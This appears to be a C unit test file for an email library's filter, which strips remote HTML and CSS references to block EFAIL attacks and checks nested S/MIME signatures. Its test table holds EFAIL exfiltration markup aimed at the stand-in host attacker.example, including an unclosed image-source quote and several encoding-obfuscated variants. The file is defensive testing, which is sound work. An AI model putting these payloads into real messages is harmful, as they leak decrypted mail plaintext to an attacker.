/* test_mime_remote.c: remote references of HTML and CSS made inert (mime_remote_html.c,
 * mime_remote.c), written as the markup an EFAIL attacker splices around the plaintext, and
 * the nested-signature test (mime_nested.c). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "core/limits.h"
#include "core/sg_buf.h"
#include "mime/mime.h"

#include <stdio.h>
#include <string.h>

struct html_case {
	const char *in;
	const char *must_have;     /* in the output, or NULL */
	const char *must_not_have; /* in the output (case-insensitive), or NULL */
	bool changed;
};

static const struct html_case html_cases[] = {
	/* the EFAIL direct exfiltration: the unclosed quote swallows the plaintext */
	{"<img src=\"http://attacker.example/x?SECRET", "data-blocked-src=\"hxxp://attacker.example/x?SECRET",
	 "src=\"http", true},
	{"<a href='https://attacker.example/'>x</a>", "data-blocked-href='hxxps:", "http", true},
	{"<img src=http://attacker.example/u>", "data-blocked-src=hxxp:", "http", true},
	{"<img SRC = \"HTTP://attacker.example/\">", "data-blocked-SRC", "http:", true},
	/* obfuscated so that only a browser's reading shows the scheme */
	{"<img src=\"h&#116;tp://attacker.example/\">", "data-blocked-src", " src=", true},
	{"<img src=\"&#x68;ttp://a\">", "data-blocked-src", " src=", true},
	{"<img src=\"ht\ttp://a\">", "data-blocked-src", " src=", true},
	{"<img src=\"//attacker.example/x\">", "data-blocked-src", " src=", true},
	{"<img src=\"\\\\attacker.example\\x\">", "data-blocked-src", " src=", true},
	{"<img src=\"javascript&colon;x\">", "data-blocked-src", " src=", true},
	{"<img/src=\"http://a/\">", "<img/data-blocked-src", "http", true},
	{"<img srcset=\"a.png 1x, img/b.png 2x, http:attacker.example 3x\">", "data-blocked-srcset",
	 " srcset", true},
	{"<base href=\"http://attacker.example/\"><img src=\"x?\">", "data-blocked-href", "http", true},
	{"<meta http-equiv=refresh content=\"0;url=http://a/\">", "data-blocked-content", "url=http",
	 true},
	{"<div style=\"background:url(http://a/)\">", "data-blocked-style", " style=", true},
	{"<div style=\"background:u&#114;l(x)\">", "data-blocked-style", " style=", true},
	/* CSS in style elements: url(), @import, escapes */
	{"<style>body{background:url(\"http://a/\")}</style>", "blocked(\"hxxp://a/\")", "url(", true},
	{"<STYLE>@import 'x.css'; p{background:u\\72l(x)}</STYLE>", "@blocked", "\\72", true},
	{"<style>p{background-image:image-set(\"x.png\" 1x)}</style>", "blocked(", "image-set(", true},
	/* raw-text elements end where a browser ends them: no desync */
	{"<textarea><a title=\"</textarea><img src=h&#116;tp://a>\">", "data-blocked-src", " src=",
	 true},
	{"<! a=\"> <img src=h&#116;tp://a> \">", "data-blocked-src", " src=", true},
	{"<!-- <img src=\"http://a/\"> -->", "hxxp", "http", true},
	/* found by fuzz_mime_remote: a scheme in an attribute name; a NUL inside a tag */
	{"<x{///a:URL(http://a/)}>", "hxxp", "http", true},
	{"<textarea\x01<img src=h&#116;tp://a>", "data-blocked-src", " src=", true},
	/* what stays as it was */
	{"<img src=\"cid:part1@example\"><a href=\"mailto:a@b\">m</a><a href=\"#top\">t</a>",
	 "src=\"cid:part1@example\"", "blocked", false},
	{"<p title=\"text/html; charset=utf-8\">a &lt; b</p>", "title=", "blocked", false},
	{"<img src=\"images/logo.png\" alt=\"logo\">", "src=\"images/logo.png\"", "blocked", false},
	{"x < y and <3", "x < y and <3", "blocked", false},
	{"", "", NULL, false},
};

static bool has_nocase(const char *hay, const char *needle)
{
	size_t n = strlen(needle);
	for (const char *p = hay; *p; p++)
		if (strncasecmp(p, needle, n) == 0)
			return true;
	return n == 0;
}

static void html_references_are_made_inert(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(html_cases) / sizeof(html_cases[0]); i++) {
		const struct html_case *c = &html_cases[i];
		struct sg_buf out;
		size_t count = 99;
		const char *err;
		sg_buf_init(&out, 1 << 20);
		assert_int_equal(mime_remote_html(c->in, strlen(c->in), false, &out, &count, &err), 0);
		const char *got = out.data != NULL ? out.data : "";
		if (c->must_have != NULL && strstr(got, c->must_have) == NULL)
			fail_msg("case %zu: %s\n -> %s\n lacks %s", i, c->in, got, c->must_have);
		if (c->must_not_have != NULL && has_nocase(got, c->must_not_have))
			fail_msg("case %zu: %s\n -> %s\n still has %s", i, c->in, got, c->must_not_have);
		if ((count > 0) != c->changed)
			fail_msg("case %zu: %s: %zu changes", i, c->in, count);
		if (!c->changed && strcmp(got, c->in) != 0)
			fail_msg("case %zu changed: %s -> %s", i, c->in, got);
		sg_buf_free(&out);
	}
}

static void css_part_and_output_ceiling(void **state)
{
	(void)state;
	struct sg_buf out;
	size_t count;
	const char *err;
	static const char css[] = "p{background:URL(http://a/)} @import \"http://b/\";";
	sg_buf_init(&out, 1 << 20);
	assert_int_equal(mime_remote_html(css, strlen(css), true, &out, &count, &err), 0);
	assert_null(strstr(out.data, "URL("));
	assert_null(strstr(out.data, "@import"));
	assert_null(strstr(out.data, "http"));
	sg_buf_free(&out);
	sg_buf_init(&out, 8); /* past the ceiling: an error, never a partial result used */
	assert_int_equal(mime_remote_html(css, strlen(css), true, &out, &count, &err), -1);
	sg_buf_free(&out);
}

#define ENTITY(charset, body)                                                                 \
	"Content-Type: multipart/alternative; boundary=b\r\n\r\n--b\r\n"                        \
	"Content-Type: text/plain\r\n\r\nsee http://plain.example/\r\n--b\r\n"                  \
	"Content-Type: text/html; charset=" charset "\r\nContent-Transfer-Encoding: base64\r\n\r\n" \
	body "\r\n--b--\r\n"

static void entity_parts_are_rewritten_in_any_charset(void **state)
{
	(void)state;
	/* "<img src="http://a/x?"" in UTF-16LE, base64: an ASCII scanner would see no markup */
	static const char utf16[] = ENTITY("utf-16le", "PABpAG0AZwAgAHMAcgBjAD0AIgBoAHQAdABwADoALwAvAGEALwB4AD8AIgA+AA==");
	struct sg_buf out;
	size_t count = 0;
	const char *err;
	sg_buf_init(&out, SG_MESSAGE_SIZE_HARD_MAX);
	assert_int_equal(mime_remote_neutralise(utf16, strlen(utf16), &out, &count, &err), 0);
	assert_true(count > 0);
	assert_non_null(strstr(out.data, "data-blocked-src"));
	assert_non_null(strstr(out.data, "charset=utf-8"));
	assert_non_null(strstr(out.data, "see http://plain.example/")); /* text/plain: no markup */
	sg_buf_free(&out);
	/* nothing to change: out is left alone */
	static const char clean[] = ENTITY("us-ascii", "PHA+aGVsbG88L3A+"); /* <p>hello</p> */
	sg_buf_init(&out, SG_MESSAGE_SIZE_HARD_MAX);
	assert_int_equal(mime_remote_neutralise(clean, strlen(clean), &out, &count, &err), 0);
	assert_int_equal(count, 0);
	assert_int_equal(out.len, 0);
	sg_buf_free(&out);
}

static void nested_signature_is_found_below_the_top_only(void **state)
{
	(void)state;
	static const char mixed[] =
		"Content-Type: multipart/mixed; boundary=o\r\n\r\n--o\r\nContent-Type: text/plain\r\n\r\n"
		"URGENT: wire EUR 90,000\r\n--o\r\nContent-Type: multipart/signed; "
		"protocol=\"application/pkcs7-signature\"; boundary=i\r\n\r\n--i\r\n"
		"Content-Type: text/plain\r\n\r\nLunch at noon?\r\n--i\r\n"
		"Content-Type: application/pkcs7-signature\r\n\r\nMIIB\r\n--i--\r\n--o--\r\n";
	assert_true(mime_nested_smime_signed(mixed, strlen(mixed)));
	/* the same as a whole message: the parse says so, for the planner */
	char msg[2048];
	snprintf(msg, sizeof(msg), "From: dora@partner.test\r\nSubject: x\r\nMIME-Version: 1.0\r\n%s",
	         mixed);
	struct mime_info info;
	const char *err;
	assert_int_equal(mime_info_parse(msg, strlen(msg), &info, &err), 0);
	assert_true(info.nested_smime_signed);
	assert_false(mime_info_is_smime(&info));
	mime_info_free(&info);
	static const char top[] = "Content-Type: application/pkcs7-mime; smime-type=signed-data\r\n\r\nMIIB\r\n";
	assert_false(mime_nested_smime_signed(top, strlen(top)));
	static const char plain[] = "Content-Type: text/plain\r\n\r\nhello\r\n";
	assert_false(mime_nested_smime_signed(plain, strlen(plain)));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(html_references_are_made_inert),
		cmocka_unit_test(css_part_and_output_ceiling),
		cmocka_unit_test(entity_parts_are_rewritten_in_any_charset),
		cmocka_unit_test(nested_signature_is_found_below_the_top_only),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
